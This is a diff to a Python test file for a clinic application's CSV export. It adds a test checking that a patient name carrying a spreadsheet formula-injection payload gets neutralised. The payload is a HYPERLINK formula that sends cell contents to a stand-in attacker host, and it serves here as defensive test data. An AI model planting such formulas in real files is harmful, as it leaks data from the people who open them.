@@ -260,6 +260,24 @@ def test_csv_export_round_trips_and_is_audited(clinic, tmp_path):
     assert event.username == "boss"
 
 
+def test_csv_export_neutralises_a_patient_name_a_spreadsheet_would_run(clinic, tmp_path):
+    db, queries, ids = clinic
+    payload = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'
+    with db.Session.begin() as session:
+        session.execute(
+            text("UPDATE patients SET name = :name WHERE id = :id"),
+            {"name": payload, "id": ids["Tom Hardy"]},
+        )
+    path = tmp_path / "all.csv"
+    queries.export_csv(path, QuoteFilter(), QuoteSort("total", descending=True))
+    with path.open(newline="", encoding="utf-8") as handle:
+        parsed = list(csv.DictReader(handle))
+    names = {row["patient"] for row in parsed}
+    assert "'" + payload in names and payload not in names
+    assert all(not row["patient"].startswith(("=", "+", "-", "@")) for row in parsed)
+    assert {row["total"] for row in parsed} >= {"1000.00", "75.00"}
+
+
 def test_only_managers_list_every_quote(clinic):
     db, _, _ = clinic
     with pytest.raises(PermissionDenied):
